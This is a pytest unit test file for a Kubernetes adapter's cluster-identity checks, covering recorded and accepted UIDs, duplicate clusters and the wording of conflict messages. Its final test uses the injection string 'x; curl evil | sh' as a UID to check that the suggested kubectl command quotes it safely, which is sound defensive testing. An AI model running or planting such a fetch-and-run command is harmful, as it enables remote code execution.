"""A cluster's identity: the uid on record, the uid that its admin accepts, and the other WorkerClusters with it."""

import pytest

from adapter import names
from adapter.admission.cluster_identity import IdentityRecord, find_conflict, identity_record, recorded_uid
from adapter.objects.unstructured import Raw
from tests.unit.builders import make_worker_cluster

HERE, THERE = "11111111-aaaa", "22222222-bbbb"


def cluster(name: str = "east", uid: object = "", accepted: str = "", made: str = "2026-01-01T00:00:00Z") -> Raw:
    raw = make_worker_cluster(name)
    metadata = {
        **raw["metadata"],
        "creationTimestamp": made,
        "annotations": {names.ACCEPT_CLUSTER_ANNOTATION: accepted},
    }
    return {**raw, "metadata": metadata, "status": {**raw["status"], **({"clusterUID": uid} if uid else {})}}


@pytest.mark.parametrize(
    ("on_record", "reason"),
    [
        pytest.param(IdentityRecord("east"), "", id="no uid on record"),
        pytest.param(IdentityRecord("east", HERE), "", id="the uid on record"),
        pytest.param(
            IdentityRecord("east", THERE),
            names.ConditionReason.IDENTITY_MISMATCH,
            id="another uid than on record",
        ),
        pytest.param(IdentityRecord("east", THERE, HERE), "", id="another uid, and it is accepted"),
        pytest.param(
            IdentityRecord("east", THERE, "33333333"),
            names.ConditionReason.IDENTITY_MISMATCH,
            id="another uid, and a third one is accepted",
        ),
        pytest.param(IdentityRecord("east", HERE, THERE), "", id="the uid on record, and another one is accepted"),
        pytest.param(IdentityRecord("east", "", "33333333"), "", id="no uid on record, and another one is accepted"),
        pytest.param(
            IdentityRecord("east", other_cluster_by_uid={HERE: "west"}),
            names.ConditionReason.DUPLICATE_CLUSTER,
            id="the uid of west",
        ),
        pytest.param(IdentityRecord("east", other_cluster_by_uid={THERE: "west"}), "", id="west has another uid"),
        pytest.param(IdentityRecord("east", "", HERE, {HERE: "west"}), "", id="the uid of west, and it is accepted"),
        pytest.param(
            IdentityRecord("east", HERE, "", {HERE: "west"}),
            names.ConditionReason.DUPLICATE_CLUSTER,
            id="east and west have the uid on record",
        ),
        pytest.param(
            IdentityRecord("east", THERE, "", {HERE: "west"}),
            names.ConditionReason.IDENTITY_MISMATCH,
            id="another uid than on record, and it is west's",
        ),
    ],
)
def test_a_cluster_is_identified_by_its_uid(on_record: IdentityRecord, reason: str) -> None:
    found = find_conflict(on_record, HERE)
    assert (found.reason if found else "") == reason


def test_the_message_says_how_to_resolve_the_conflict() -> None:
    found = find_conflict(IdentityRecord("east", THERE), HERE)
    assert found and found.message == (
        "its kubeconfig leads to a different cluster than before: the uid of its namespace kube-system is "
        "11111111-aaaa, and status.clusterUID is 22222222-bbbb; nothing is read or written there, and workers in the "
        "earlier cluster are left as they are. Correct the kubeconfig; or, if this cluster replaces the earlier one "
        "for good, run: kubectl annotate workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
    )
    found = find_conflict(IdentityRecord("east", other_cluster_by_uid={HERE: "west"}), HERE)
    assert found and "it is the cluster of WorkerCluster west" in found.message
    assert found.message.endswith(
        "kubectl annotate workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
    )


def test_a_huge_uid_is_cut_in_the_message() -> None:
    found = find_conflict(IdentityRecord("east", THERE), "x" * 10**6)
    assert found and len(found.message) < 1000


@pytest.mark.parametrize(("uid", "want"), [("", ""), (HERE, HERE), (5, ""), ({"a": 1}, "")])
def test_an_invalid_recorded_uid_counts_as_none(uid: object, want: str) -> None:
    assert recorded_uid(cluster(uid=uid)) == want


EARLY, LATE = "2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z"


@pytest.mark.parametrize(
    ("mine", "others", "taken"),
    [
        pytest.param(cluster(), [], {}, id="no other cluster"),
        pytest.param(cluster(), [cluster("west")], {}, id="the other cluster has no uid"),
        pytest.param(cluster(), [cluster("west", HERE)], {HERE: "west"}, id="the other cluster has the uid"),
        pytest.param(
            cluster(made=EARLY),
            [cluster("west", HERE, made=LATE)],
            {HERE: "west"},
            id="a younger cluster has the uid on record",
        ),
        pytest.param(
            cluster(uid=HERE, made=EARLY),
            [cluster("west", HERE, made=LATE)],
            {},
            id="both have the uid, and this cluster is older",
        ),
        pytest.param(
            cluster(uid=HERE, made=LATE),
            [cluster("west", HERE, made=EARLY)],
            {HERE: "west"},
            id="both have the uid, and this cluster is younger",
        ),
        pytest.param(
            cluster(uid=HERE),
            [cluster("west", HERE)],
            {},
            id="both have the uid and one age: the first name wins",
        ),
        pytest.param(
            cluster("west", HERE),
            [cluster("east", HERE)],
            {HERE: "east"},
            id="both have the uid and one age: the second name loses",
        ),
        pytest.param(
            cluster(),
            [cluster("c", HERE, made=LATE), cluster("b", HERE, made=EARLY)],
            {HERE: "b"},
            id="the older of two other clusters is named",
        ),
        pytest.param(
            cluster(uid=HERE), [cluster("west", THERE)], {THERE: "west"}, id="another uid belongs to the other cluster"
        ),
    ],
)
def test_uids_of_other_clusters(mine: Raw, others: list[Raw], taken: dict[str, str]) -> None:
    assert identity_record(mine, [*others, mine]).other_cluster_by_uid == taken


def test_the_record_is_read_completely() -> None:
    assert identity_record(cluster(uid=HERE, accepted=THERE), []) == IdentityRecord("east", HERE, THERE)


@pytest.mark.parametrize(
    "on_record",
    [IdentityRecord("east", THERE), IdentityRecord("east", other_cluster_by_uid={"x; curl evil | sh": "west"})],
)
def test_a_command_in_the_uid_is_not_quoted_for_typing(on_record: IdentityRecord) -> None:
    found = find_conflict(on_record, "x; curl evil | sh")
    assert found and found.message.endswith(" rayspan.dev/accept-cluster='x; curl evil | sh'")
